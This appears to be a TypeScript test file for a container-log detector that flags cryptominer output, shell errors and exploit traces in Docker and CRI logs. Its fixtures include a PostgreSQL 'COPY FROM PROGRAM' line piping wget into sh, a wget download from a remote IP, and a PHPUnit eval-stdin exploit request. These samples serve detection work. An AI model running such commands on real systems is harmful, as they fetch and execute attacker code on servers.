import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { intelWith } from '../../../test/intel-with.ts'
import { criLog, dockerJsonLog } from './container-log.ts'

const { patches } = intelWith()
const id = '8f2e0b5a7c1d'.padEnd(64, '0')
const docker = (...texts: string[]) => {
  const reader = dockerJsonLog.open({ path: `/var/lib/docker/containers/${id}/${id}-json.log`, user: '', patches })
  return texts.flatMap(log => [
    ...reader.line(`${JSON.stringify({ log: `${log}\n`, stream: 'stdout', time: '2026-11-22T01:03:04.123456789Z' })}`),
  ])
}
const short = (d: ReturnType<typeof docker>[number]) =>
  [d.verb, d.container, d.attack, d.address, d.url].filter(x => x !== undefined).join(' ')

test('miners, shells, and the logs of services inside of containers', () => {
  assert.deepEqual(
    docker(
      ' * ABOUT        XMRig/6.21.0 gcc/9.3.0 (built for Linux x86-64)',
      '\x1b[0;36m[2026-11-22 01:03:04.123]\x1b[0m \x1b[44m net     \x1b[0m use pool pool.example:3333  198.51.100.1',
      'sh: 1: kinsing: not found',
      '1:M 22 Nov 2026 01:03:03.927 # Module /tmp/exp.so failed to load: x',
      `203.0.113.9 - - [22/Nov/2026:00:48:13 +0800] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 200 1 "-" "curl"`,
      "2026-11-22 01:03:07.270 UTC [4704] LOG:  statement: COPY a FROM PROGRAM 'wget x | sh'",
      'Error: Command failed: wget http://198.51.100.5/a -O /tmp/a',
    ).map(short),
    [
      'process 8f2e0b5a7c1d miner-output',
      'process 8f2e0b5a7c1d miner-output',
      'error 8f2e0b5a7c1d shell-output',
      'exploit 8f2e0b5a7c1d redis-module-load',
      'exploit 8f2e0b5a7c1d phpunit-eval-stdin 203.0.113.9',
      'exploit 8f2e0b5a7c1d postgresql-copy-program-shell',
      'exploit 8f2e0b5a7c1d node-command',
    ],
  )
})

test('the time is that of the daemon, whatever the container says', () => {
  const [one] = docker(
    '1:M 22 Nov 2020 01:03:03.927 # Module /tmp/exp.so failed to load: x","stream":"stdout","time":"2020-01-01T00:00:00.0Z"}',
  )
  assert.deepEqual(one?.time, { ms: Date.UTC(2026, 10, 22, 1, 3, 4, 123), zoned: true, grain: 0.001 })
})

test('CRI: namespace, pod and container from the path', () => {
  const reader = criLog.open({ path: '/var/log/pods/default_web-7d9_0a1b2c3d-0a1b-0a1b-0a1b-0a1b2c3d4e5f/app/0.log', user: '', patches })
  const [one] = reader.line('2026-11-22T01:03:04.123456789+08:00 stderr F sh: 1: wget: not found')
  assert.deepEqual(
    [one?.container, one?.attack, one?.time?.ms],
    ['default/web-7d9/app', 'shell-output', Date.UTC(2026, 10, 21, 17, 3, 4, 123)],
  )
})

test('near misses: ordinary output', () => {
  assert.deepEqual(
    docker(
      'listening on port 3000',
      'job accepted (1/3) by worker',
      'sh: a story: not found in library',
      '{"level":"info","msg":"use pool of connections"}',
      'ready - started server on 0.0.0.0:3000',
    ),
    [],
  )
  assert.ok(dockerJsonLog.recognise(`{"log":"a\\n","stream":"stdout","time":"2026-11-22T01:03:04.123456789Z"}\n`, 'x') > 0.9)
  assert.ok(criLog.recognise('2026-11-22T01:03:04.123456789+08:00 stderr F x\n', 'x') > 0.9)
})

test('property: any text, no throw', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300 }), text => void docker(text)))
  fc.assert(
    fc.property(
      fc.string({ maxLength: 300 }),
      text => void [...dockerJsonLog.open({ path: '', user: '' }).line(text), ...criLog.open({ path: '', user: '' }).line(text)],
    ),
  )
})
